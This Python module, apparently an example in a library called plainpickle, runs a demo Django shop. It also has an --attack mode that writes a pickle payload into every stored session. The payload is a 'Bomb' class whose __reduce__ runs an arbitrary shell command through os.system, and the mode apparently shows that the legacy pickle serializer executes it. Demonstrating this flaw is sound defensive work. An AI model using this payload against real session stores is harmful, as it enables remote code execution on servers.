"""`python -m examples.django_shop`: serves the shop, or attacks the sessions it has stored."""

from __future__ import annotations

import argparse
import os
import pickle
from typing import Any

import django
from django.core.management import call_command
from django.core.servers.basehttp import ThreadedWSGIServer, WSGIRequestHandler
from django.core.wsgi import get_wsgi_application

SETTINGS = "examples.django_shop.settings"


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m examples.django_shop", description=__doc__)
    parser.add_argument("--legacy", action="store_true", help="as it was: with pickle")
    parser.add_argument("--port", type=int, default=8000, help="0 for any that is free")
    parser.add_argument(
        "--attack",
        metavar="COMMAND",
        help="serve nothing: plant a shell command in every session, as whoever has the key and "
        "can write to the database",
    )
    options = parser.parse_args()
    settings = SETTINGS if options.legacy or options.attack else f"{SETTINGS}_plainpickle"
    os.environ["DJANGO_SETTINGS_MODULE"] = settings
    django.setup()
    call_command("migrate", verbosity=0)
    if options.attack:
        print(f"planted in {attack(options.attack)} sessions")
    else:
        serve(options.port)


def serve(port: int) -> None:
    """Serves until it is interrupted."""
    from django.contrib.auth.models import User

    if not User.objects.filter(username="customer").exists():
        User.objects.create_user("customer", password="coffee")
    server = ThreadedWSGIServer(("127.0.0.1", port), WSGIRequestHandler)
    server.daemon_threads = True
    server.set_app(get_wsgi_application())
    how = os.environ["DJANGO_SETTINGS_MODULE"]
    print(f"http://127.0.0.1:{server.server_port}/ by {how}; Ctrl-C ends it", flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        server.server_close()


class Bomb:
    """What runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def attack(command: str) -> int:
    """Adds a key to each stored session that runs a command, and says how many there are."""
    from django.contrib.sessions.backends.db import SessionStore
    from django.contrib.sessions.models import Session
    from django.core import signing

    from plainpickle.django import SessionSerializer

    rows = Session.objects.all()
    for row in rows:
        # Whatever is in there by now, pickle or JSON: what the visitor has stays as it is.
        store = SessionStore()
        found = signing.loads(row.session_data, salt=store.key_salt, serializer=SessionSerializer)
        row.session_data = signing.dumps(
            {**found, "promotion": Bomb(command)},
            salt=store.key_salt,
            serializer=HighestPickle,
            compress=True,
        )
        row.save()
    return len(rows)


class HighestPickle:
    """What the legacy shop writes, and the shop with plainpickle still reads."""

    def dumps(self, value: Any) -> bytes:
        return pickle.dumps(value, pickle.HIGHEST_PROTOCOL)


if __name__ == "__main__":
    main()
